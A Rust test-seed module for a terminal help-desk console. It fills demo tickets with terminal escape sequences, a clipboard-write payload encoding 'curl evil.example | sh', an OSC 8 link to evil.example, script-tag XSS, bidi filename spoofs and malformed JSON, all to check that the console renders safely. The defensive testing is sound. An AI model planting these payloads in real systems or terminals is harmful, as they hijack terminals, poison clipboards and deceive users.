//! The hostile seed (`ttydesk demo --seed hostile`, `SimOptions::hostile`): the usual demo data
//! with the worst a vendor's instance has been seen to hold, where the agent meets it first (the
//! newest open requests, their customers, desk, status and category, the first news items and
//! articles):
//!
//! - escape sequences of every family (CSI, OSC 0/8/52, DCS, APC, PM, SOS, RIS), 8-bit C1, bidi
//!   controls and every class of invisible character, in titles, bodies, comments, people's
//!   names, desk, level, status and category names, custom field values, news and articles;
//! - a 20 MB body, HTML nested 50,000 deep, a request with 1,000 comments, a 5,000-character
//!   title, a customer whose name is only Hangul fillers;
//! - on the wire ([`WireRule`]): invalid UTF-8, JSON nested past parsers' limits, elements
//!   whose every field is `null`, strings and numbers swapped, a `null` where a user belongs.
//!
//! The console must open on it, draw every pane and let no byte of it act on the terminal.

use crate::sim::dataset::{Comment, Dataset};
use crate::sim::wire::{Damage, WireRule};

/// The 20 MB body's size.
pub const BIG_BODY_BYTES: usize = 20 * 1024 * 1024;
/// How deep the deep HTML body nests.
pub const HTML_DEPTH: usize = 50_000;
/// How many comments the long thread has.
pub const THREAD_COMMENTS: usize = 1_000;
/// Deeper than serde_json's recursion limit (128).
const JSON_DEPTH: usize = 300;

/// Titles, one per escape family or class of invisible character: what follows the request's
/// own title.
const TITLE_PAYLOADS: &[&str] = &[
    " \u{1b}P+q544e\u{1b}\\ (DCS)",
    " \u{1b}_apc payload\u{1b}\\ (APC)",
    " \u{1b}^privacy message\u{1b}\\ (PM)",
    " \u{1b}Xstart of string\u{1b}\\ (SOS)",
    " \u{9b}2J\u{9d}0;eight-bit title\u{9c} (C1)",
    " \u{1b}c\u{1b}7\u{1b}8\u{1b}#8 (reset, save, alignment)",
    " \u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{1b}\\ (clipboard)",
    " invoice_\u{2067}exe.pdf\u{2069} from \u{200f}supplier\u{200e} \u{202e}txt.exe\u{202c}",
    " shared\u{3164}drive\u{ffa0}\u{115f}\u{1160} full\u{2800}",
    " Wi\u{34f}-Fi\u{17b4}\u{17b5} in \u{180e}room\u{2060}\u{2061}",
    " \u{600}\u{601}\u{605}\u{13430}\u{13438} scanner",
    " Teams\u{fe0f}\u{e0041}\u{e0042}\u{e007f} crash\u{fdd0}\u{ffff}\u{1fffe}",
    " monitor\u{2028}flickers\u{2029}\u{ad}\u{85}\u{7f}\u{8}\u{0}\u{7}",
];

/// Comment bodies the long thread cycles through (HTML, as InvGate stores comments).
const COMMENT_PAYLOADS: &[&str] = &[
    "<p>Still broken \u{1b}[2J\u{1b}[Hafter the reboot.</p>",
    "<p>Title set: \u{1b}]0;owned\u{7}done</p>",
    "<p>Copied for you \u{1b}]52;c;ZXZpbA==\u{7}</p>",
    "<p>See <a href=\"javascript:alert(1)\">the portal</a><script>alert(1)</script></p>",
    "<p>Attachment: report_\u{202e}cod.exe</p>",
    "<p>\u{3164}\u{3164}\u{3164}</p>",
    "<p>Eight-bit \u{9b}31mred\u{9b}0m and \u{9d}0;title\u{9c}</p>",
    "<p>Ordinary update: the technician is on the way.</p>",
    "<p>Zero\u{200b}width\u{200c}and\u{200d}joiners\u{2060}everywhere\u{feff}</p>",
    "<p>Tags \u{e0068}\u{e0069} and \u{fe0f}selectors\u{fe0e}</p>",
];

/// People's names: (first name, last name).
const NAMES: &[(&str, &str)] = &[
    ("\u{3164}\u{3164}\u{3164}", ""),
    ("Eve\u{1b}]0;owned\u{7}", "Mallory\u{1b}[8m"),
    ("\u{202e}nomiS", "\u{2066}Trusted\u{2069}"),
    ("Zoë\u{9b}31m", "Ünal\u{200b}\u{ad}"),
    ("\u{1b}P$q\u{1b}\\Omar", "Haddad\u{600}"),
];

/// Escapes and invisibles that make a name look untouched once cleaned.
const NAME_TAIL: &str = "\u{1b}]0;x\u{7}\u{202e}\u{200b}\u{2800}";

/// The newest open requests that do not carry the standard demo's hostile text, newest first.
fn targets(ds: &Dataset) -> Vec<u64> {
    ds.requests
        .iter()
        .rev()
        .filter(|r| ds.is_open_status(r.status_id) && !ds.hostile_ids.contains(&r.id))
        .map(|r| r.id)
        .collect()
}

/// Applies the hostile seed to `ds` and returns the damage to serve on the wire.
pub fn apply(ds: &mut Dataset) -> Vec<WireRule> {
    let targets = targets(ds);
    let mut planted = Vec::new();
    let mut next = targets.iter().copied();
    let mut take = || next.next();

    for payload in TITLE_PAYLOADS {
        if let Some(id) = take() {
            edit(ds, id, |r| r.title.push_str(payload));
            planted.push(id);
        }
    }
    if let Some(id) = take() {
        edit(ds, id, |r| {
            r.title = format!("Keyboard {}", "x".repeat(5_000))
        });
        planted.push(id);
    }
    if let Some(id) = take() {
        edit(ds, id, |r| r.description = big_body());
        planted.push(id);
    }
    if let Some(id) = take() {
        edit(ds, id, |r| r.description = deep_html(HTML_DEPTH));
        planted.push(id);
    }
    let thread = take();
    if let Some(id) = thread {
        long_thread(ds, id);
        planted.push(id);
    }
    let wire_targets: Vec<u64> = (0..4).filter_map(|_| take()).collect();
    planted.extend(&wire_targets);

    names(ds, &planted);
    groups(ds, &planted);
    news_and_articles(ds);
    ds.hostile_ids.extend(&planted);
    ds.hostile_ids.sort_unstable();
    ds.hostile_ids.dedup();

    let mut rules = request_rules(&wire_targets);
    if let Some(id) = thread {
        rules.extend(comment_rules(ds, id));
    }
    rules.extend(user_rules(ds, &planted));
    rules.extend(news_and_article_rules(ds));
    rules
}

fn edit(ds: &mut Dataset, id: u64, change: impl FnOnce(&mut crate::sim::dataset::Request)) {
    if let Some(r) = ds.requests.iter_mut().find(|r| r.id == id) {
        change(r);
    }
}

/// 20 MB of log lines, each with escapes in it.
fn big_body() -> String {
    let line = "<p>2026-11-30 03:14:07 \u{1b}[31mERROR\u{1b}[0m disk /dev/sda1 \u{9b}2J full, \
                retrying\u{202e} in 5 s</p>\r\n";
    let mut body = String::with_capacity(BIG_BODY_BYTES + line.len());
    body.push_str("<p>The whole log, pasted inline:</p>\r\n");
    while body.len() < BIG_BODY_BYTES {
        body.push_str(line);
    }
    body
}

fn deep_html(depth: usize) -> String {
    format!(
        "<p>Signature below renders oddly:</p>\r\n{}<span>Kind regards \u{1b}]0;x\u{7}</span>{}",
        "<div>".repeat(depth),
        "</div>".repeat(depth)
    )
}

/// JSON `depth` lists deep around a string: more than a parser accepts.
fn deep_json(depth: usize) -> Vec<u8> {
    format!("{}\"deep\"{}", "[".repeat(depth), "]".repeat(depth)).into_bytes()
}

/// Invalid UTF-8 inside a JSON string: a lone continuation byte, an overlong slash, a raw C1
/// CSI byte, a truncated sequence.
const BAD_UTF8: &[u8] = b"\"Caf\xe9 printer \xff\xfe\x9b2J \xc0\xaf down \xe2\x82\"";

fn long_thread(ds: &mut Dataset, id: u64) {
    let mut next_id = ds
        .requests
        .iter()
        .flat_map(|r| r.comments.iter().map(|c| c.id))
        .max()
        .unwrap_or(5_000)
        + 1;
    let agent = ds
        .users
        .iter()
        .find(|u| u.is_agent() && u.id != 1)
        .map(|u| u.id);
    let now = ds.now;
    edit(ds, id, |r| {
        let start = r.comments.last().map_or(r.created_at, |c| c.created_at);
        let span = (now - start).max(1);
        let customer = r.user_id;
        for n in 0..THREAD_COMMENTS {
            let at = start
                + span * i64::try_from(n + 1).unwrap_or(1)
                    / i64::try_from(THREAD_COMMENTS + 1).unwrap_or(1);
            r.comments.push(Comment {
                id: next_id,
                author_id: if n % 2 == 0 {
                    customer
                } else {
                    agent.unwrap_or(customer)
                },
                message: COMMENT_PAYLOADS[n % COMMENT_PAYLOADS.len()].to_string(),
                created_at: at,
                customer_visible: true,
                is_solution: false,
                reference: None,
                msg_num: u32::try_from(r.comments.len() + 1).unwrap_or(u32::MAX),
                attached_files: Vec::new(),
            });
            next_id += 1;
        }
        r.last_update = r.last_update.max(now);
        for (_, value) in &mut r.custom_fields {
            value.push_str(NAME_TAIL);
        }
    });
}

/// The end users who are customers of the planted requests, each once, in planted order.
fn customers(ds: &Dataset, planted: &[u64]) -> Vec<u64> {
    let mut out: Vec<u64> = Vec::new();
    for id in planted {
        if let Some(user) = ds.request(*id).map(|r| r.user_id)
            && !out.contains(&user)
            && ds.users.iter().any(|u| u.id == user && !u.is_agent())
        {
            out.push(user);
        }
    }
    out
}

/// How many customers get hostile names (the rest of them may be damaged on the wire).
const NAMED: usize = NAMES.len() + 1;

/// The customers of the planted requests get hostile names, and so does one agent.
fn names(ds: &mut Dataset, planted: &[u64]) {
    let customers = customers(ds, planted);
    for (user_id, (first, last)) in customers.iter().zip(NAMES) {
        if let Some(u) = ds
            .users
            .iter_mut()
            .find(|u| u.id == *user_id && !u.is_agent())
        {
            u.name = (*first).to_string();
            u.lastname = (*last).to_string();
        }
    }
    if let Some(u) = customers
        .get(NAMES.len())
        .and_then(|id| ds.users.iter_mut().find(|u| u.id == *id && !u.is_agent()))
    {
        u.name = "A".repeat(3_000);
    }
    if let Some(agent) = ds.users.iter_mut().find(|u| u.is_agent() && u.id != 1) {
        agent.lastname.push_str("\u{200d}\u{2060}\u{1b}[5m");
    }
}

/// The first planted request's desk, one level, a status and a category get hostile names; a
/// level's name is only invisible characters.
fn groups(ds: &mut Dataset, planted: &[u64]) {
    let Some(first) = planted.first().and_then(|id| ds.request(*id)).cloned() else {
        return;
    };
    let desk_id = ds
        .helpdesks
        .iter()
        .find(|d| d.id == first.assigned_group_id)
        .map(|d| d.parent_id.unwrap_or(d.id));
    if let Some(desk) = ds.helpdesks.iter_mut().find(|d| Some(d.id) == desk_id) {
        desk.name.push_str(NAME_TAIL);
    }
    if let Some(level) = ds
        .helpdesks
        .iter_mut()
        .find(|d| d.parent_id.is_some() && d.parent_id != desk_id)
    {
        level.name = "\u{3164}\u{115f}\u{200b}".into();
    }
    if let Some(status) = ds.statuses.iter_mut().find(|s| s.id == first.status_id) {
        status.name.push_str("\u{1b}[5m\u{2800}");
    }
    if let Some(category) = ds.categories.iter_mut().find(|c| c.id == first.category_id) {
        category.name.push_str("\u{1b}]52;c;ZXZpbA==\u{7}");
    }
}

fn news_and_articles(ds: &mut Dataset) {
    if let Some(item) = ds.news.first_mut() {
        item.title.push_str(" \u{1b}]0;outage\u{7}\u{202e}\u{9b}5m");
        item.body = format!(
            "<p>Status page: \u{1b}]8;;http://evil.example\u{1b}\\here\u{1b}]8;;\u{1b}\\</p>{}",
            deep_html(5_000)
        );
        for update in &mut item.updates {
            update.body.push_str("<p>\u{1b}[2J\u{3164}\u{e0041}</p>");
        }
    }
    if let Some(article) = ds.articles.first_mut() {
        article
            .title
            .push_str(" \u{1b}[31m\u{2067}draft\u{2069}\u{fdd0}");
        article.description.push_str(" \u{9d}0;x\u{9c}");
        article.content = format!("{}{}", article.content, deep_html(HTML_DEPTH));
    }
}

fn request_rules(ids: &[u64]) -> Vec<WireRule> {
    let damages = [
        Damage::Raw {
            field: "title",
            bytes: BAD_UTF8.to_vec(),
        },
        Damage::Raw {
            field: "title",
            bytes: deep_json(JSON_DEPTH),
        },
        Damage::Nulls,
        Damage::Swapped,
    ];
    ids.iter()
        .zip(damages)
        .flat_map(|(id, damage)| {
            ["incidents", "incident"].map(|endpoint| WireRule {
                endpoint,
                id: *id,
                damage: damage.clone(),
            })
        })
        .collect()
}

/// What one element after another of a list gets: `null` in its place, swapped types, invalid
/// UTF-8 in `field`, `field` nested too deep.
fn element_damages(field: &'static str) -> [Damage; 4] {
    [
        Damage::Raw {
            field: "",
            bytes: b"null".to_vec(),
        },
        Damage::Swapped,
        Damage::Raw {
            field,
            bytes: BAD_UTF8.to_vec(),
        },
        Damage::Raw {
            field,
            bytes: deep_json(JSON_DEPTH),
        },
    ]
}

/// In the long thread: a comment that is `null`, one with swapped types, one with invalid
/// UTF-8, one nested too deep.
fn comment_rules(ds: &Dataset, thread: u64) -> Vec<WireRule> {
    let Some(request) = ds.request(thread) else {
        return Vec::new();
    };
    let ids: Vec<u64> = request
        .comments
        .iter()
        .rev()
        .skip(2)
        .step_by(7)
        .map(|c| c.id)
        .collect();
    let damages = element_damages("message");
    ids.iter()
        .zip(damages)
        .map(|(id, damage)| WireRule {
            endpoint: "incident.comment",
            id: *id,
            damage,
        })
        .collect()
}

/// Among the customers of the planted requests (not those with hostile names): one user
/// `null`, one with swapped types, one whose name is invalid UTF-8, one nested too deep.
fn user_rules(ds: &Dataset, planted: &[u64]) -> Vec<WireRule> {
    let customers: Vec<u64> = customers(ds, planted).into_iter().skip(NAMED).collect();
    let damages = element_damages("name");
    customers
        .iter()
        .zip(damages)
        .map(|(id, damage)| WireRule {
            endpoint: "users",
            id: *id,
            damage,
        })
        .collect()
}

fn news_and_article_rules(ds: &Dataset) -> Vec<WireRule> {
    let mut rules = Vec::new();
    if let Some(item) = ds.news.get(1) {
        rules.push(WireRule {
            endpoint: "breakingnews.all",
            id: item.id,
            damage: Damage::Swapped,
        });
    }
    if let Some(item) = ds.news.get(2) {
        rules.push(WireRule {
            endpoint: "breakingnews.all",
            id: item.id,
            damage: Damage::Raw {
                field: "title",
                bytes: BAD_UTF8.to_vec(),
            },
        });
    }
    if let Some(article) = ds.articles.get(1) {
        for endpoint in [
            "kb.articles",
            "kb.articles.by.keywords",
            "kb.articles.by.ids",
        ] {
            rules.push(WireRule {
                endpoint,
                id: article.id,
                damage: Damage::Nulls,
            });
        }
    }
    rules
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::expect_used)]
    use super::*;
    use crate::sim::Instance;
    use crate::sim::generate::instance_dataset;

    #[test]
    fn the_seed_plants_each_kind_of_damage() {
        let mut ds = instance_dataset(Instance::It, 7, None);
        let before = ds.hostile_ids.len();
        let rules = apply(&mut ds);
        assert!(ds.hostile_ids.len() >= before + TITLE_PAYLOADS.len() + 8);
        let big = ds
            .requests
            .iter()
            .map(|r| r.description.len())
            .max()
            .unwrap();
        assert!(big >= BIG_BODY_BYTES);
        assert!(
            ds.requests
                .iter()
                .any(|r| r.description.matches("<div>").count() == HTML_DEPTH)
        );
        assert!(
            ds.requests
                .iter()
                .any(|r| r.comments.len() >= THREAD_COMMENTS)
        );
        assert!(
            ds.users
                .iter()
                .any(|u| u.name == "\u{3164}\u{3164}\u{3164}")
        );
        for endpoint in [
            "incidents",
            "incident",
            "incident.comment",
            "users",
            "breakingnews.all",
        ] {
            assert!(rules.iter().any(|r| r.endpoint == endpoint), "{endpoint}");
        }
        for damage in [Damage::Nulls, Damage::Swapped] {
            assert!(rules.iter().any(|r| r.damage == damage));
        }
        // Every planted request is open: the agent meets them in the default queue.
        for id in &ds.hostile_ids {
            let r = ds.request(*id).unwrap();
            assert!(ds.is_open_status(r.status_id), "{id}");
        }
    }
}
